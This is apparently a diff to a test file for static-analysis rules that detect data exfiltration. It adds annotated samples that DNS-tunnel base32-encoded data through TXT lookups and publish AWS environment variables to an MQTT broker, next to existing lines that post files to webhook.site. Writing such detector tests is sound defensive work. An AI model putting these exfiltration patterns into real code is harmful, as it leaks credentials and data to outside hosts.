@@ -388,6 +388,26 @@ for _chunk in ("alpha", "beta"):
 # ok: dns-encoded-data
 # ruleid: socket-use
 socket.gethostbyname("api.example.com")
+# a resolver object's lookups, of names a helper encodes
+import base64
+import pathlib
+
+import dns.resolver
+
+
+def _dns_labels(blob):
+    enc = base64.b32encode(blob).decode().rstrip("=").lower()
+    return [enc[i : i + 50] for i in range(0, len(enc), 50)]
+
+
+_resolver = dns.resolver.Resolver(configure=False)
+for _idx, _label in enumerate(_dns_labels(b"data")):
+    # ruleid: dns-encoded-data
+    _resolver.resolve(f"{_label}.{_idx}.t.example", "TXT")
+# ok: dns-encoded-data
+_resolver.resolve("example.com", "MX")
+# ok: dns-encoded-data
+pathlib.Path(base64.b64decode("Lg==").decode()).resolve(strict=True)
 # a credential found by trying several variable names
 def _gh_token():
     for name in ("GITHUB_TOKEN", "GH_TOKEN"):
@@ -956,3 +976,14 @@ requests.post("https://webhook.site/0000-1111", files={"src": ("source.tar.gz", 
 # ok: file-to-drop-service
 # ruleid: http-client, exfiltration-endpoint
 requests.post("https://webhook.site/0000-1111", json={"status": "ok"}, timeout=5)
+
+# the environment published to a message broker
+import paho.mqtt.client as mqtt
+
+_mq = mqtt.Client(client_id="gw")
+_mq.connect("broker.example.net", 1883)
+# ruleid: secret-exfiltration
+_mq.publish("fleet/state", json.dumps({k: os.environ[k] for k in os.environ if k.startswith("AWS_")}))
+# ok: secret-exfiltration
+_mq.publish("fleet/state", json.dumps({"uptime": 12}))
+
